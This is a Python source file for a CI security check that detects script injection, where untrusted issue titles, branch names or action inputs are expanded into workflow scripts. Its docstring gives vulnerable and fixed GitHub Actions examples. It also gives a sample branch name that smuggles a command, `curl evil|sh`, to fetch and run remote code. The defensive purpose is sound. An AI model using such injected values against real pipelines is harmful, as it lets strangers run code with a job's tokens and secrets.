"""Text that strangers write is never put into a script

An expression in a script is replaced by its value before the shell reads it: a branch named `x";curl evil|sh;"` or an issue with such a
title then runs as a command, with the job's token and secrets. Handed over in an environment variable it stays text.

## Bad
```yaml .github/workflows/greet.yml:8
on: [issues]
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New: ${{ github.event.issue.title }}"
```

### A script in a parameter
```yaml .github/workflows/greet.yml:8
on: [pull_request]
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        with:
          script: console.log("${{ github.head_ref }}")
```

### By way of an input of a composite action
```yaml .github/workflows/pr.yml
on: [pull_request_target]
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: ./.github/actions/label
        with:
          title: ${{ github.event.pull_request.title }}
```
```yaml .github/actions/label/action.yml:7
name: Label
inputs:
  title: {required: true}
runs:
  using: composite
  steps:
    - run: ./label "${{ inputs.title }}"
      shell: bash
```

## Good
```yaml .github/workflows/greet.yml
on: [issues]
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "New $TITLE ${{ github.event.issue.number }} ${{ contains(github.event.issue.title, 'bug') }}"
```

## References
- <https://docs.github.com/en/actions/concepts/security/script-injections>
- <https://securitylab.github.com/resources/github-actions-untrusted-input/>
"""

from __future__ import annotations

import functools
from collections.abc import Iterator, Mapping

from pytest_deploy.checks.registry import check
from pytest_deploy.findings import Finding, NotApplicable, Related
from pytest_deploy.pipelines.model import Job, Pipeline, Step, Template, steps_of, variables
from pytest_deploy.pipelines.untrusted import sources, texts
from pytest_deploy.places import Place
from pytest_deploy.repository import Repository

_HINT = 'Hand it over in `env:` and use the variable in the script, in quotes: "$TITLE".'
_SCRIPTS = frozenset({"script", "inlinescript", "inline-script", "inline_script", "run", "command", "commands", "cmd"})
"""Parameters (in lower case) that packaged steps take code in."""
_BY_INSIDERS = frozenset({"manual", "schedule", "release", "merge_group"})
"""Events whose run holds no text of strangers."""


@check("advisory")
def pipeline_no_script_injection(pipeline: Pipeline, repository: Repository) -> Iterator[Finding]:
    """Every expression in a script of this file."""
    scripts = [(job, step, code) for job in pipeline.jobs.values() for step, code in _scripts(job, pipeline.path)]
    if not scripts:
        raise NotApplicable("it runs no script")
    if pipeline.triggers and all(trigger.event in _BY_INSIDERS for trigger in pipeline.triggers):
        raise NotApplicable("only people with rights on the repository can start it")
    given = _given(pipeline, repository)
    for job, step, code in scripts:
        known = {**given, **_environment(pipeline, job, step)}
        places = iter(code.places if len(code.places) == sum(not isinstance(part, str) for part in code.parts) else ())
        for part in code.parts:
            if isinstance(part, str):
                continue
            place = next(places, code.place)
            names = [name for name in dict.fromkeys(sources(part, known)) if not _is_fixed(name, pipeline)]
            if names:
                related = tuple(Related("handed over here", given[name].place) for name in variables(part) if name in given)
                yield Finding(
                    f"a script holds {names[0]}, which anybody can write: it would run as a command", _in(place, pipeline), _HINT, related
                )


def _in(place: Place, pipeline: Pipeline) -> Place:
    return Place(pipeline.path, place.line, place.column, place.end_line)


def _scripts(job: Job, path: str) -> Iterator[tuple[Step, Template]]:
    seen = set()
    for chain in steps_of(job):
        for step in chain:
            if step.place.path != path or step.place in seen:
                continue
            seen.add(step.place)
            if step.script is not None:
                yield step, step.script.template
            for name, template in step.parameters.items():
                if name.lower() in _SCRIPTS:
                    yield step, template


def _environment(pipeline: Pipeline, job: Job, step: Step) -> dict[str, Template]:
    """What names stand for at a step: environment variables, and what the jobs needed hand on."""
    known = {f"env.{name}": value for name, value in (*pipeline.variables.items(), *job.variables.items(), *step.environment.items())}
    for need in job.needs:
        other = pipeline.jobs.get(need)
        known |= {f"needs.{need}.outputs.{name}": value for name, value in (other.outputs.items() if other else ())}
    return known


def _given(pipeline: Pipeline, repository: Repository) -> dict[str, Template]:
    """What callers in this repository put into the inputs of a composite action or called pipeline, where strangers write it."""
    found: dict[str, Template] = {}
    for inputs, known in _callers(repository).get(pipeline.path, ()):
        _keep(found, inputs, known)
    return found


@functools.lru_cache(maxsize=2)
def _callers(repository: Repository) -> Mapping[str, list[tuple[Mapping[str, Template], Mapping[str, Template]]]]:
    """For each composite action and called pipeline, what it is given where, and what names stand for there."""
    found: dict[str, list[tuple[Mapping[str, Template], Mapping[str, Template]]]] = {}
    for caller in repository.pipelines.values():
        for job in caller.jobs.values():
            if job.called is not None:
                known = {f"env.{name}": value for name, value in caller.variables.items()}
                found.setdefault(job.called.path, []).append((job.called.inputs, known))
            for chain in steps_of(job):
                for step in chain:
                    if step.uses is not None and step.uses.local is not None:
                        found.setdefault(step.uses.local, []).append((step.parameters, _environment(caller, job, step)))
    return found


def _keep(found: dict[str, Template], inputs: Mapping[str, Template], known: Mapping[str, Template]) -> None:
    for name, template in inputs.items():
        if next(texts(template, known), None):
            found.setdefault(f"inputs.{name}", template)


def _is_fixed(name: str, pipeline: Pipeline) -> bool:
    """The branch of an upstream run is no text of a stranger where the trigger lets only branches in that it names in full."""
    if name != "upstream.branch":
        return False
    triggers = [trigger for trigger in pipeline.triggers if trigger.event == "pipeline"]
    return bool(triggers) and all(
        trigger.branches and not any(set("*?[+!") & set(branch) for branch in trigger.branches) for trigger in triggers
    )
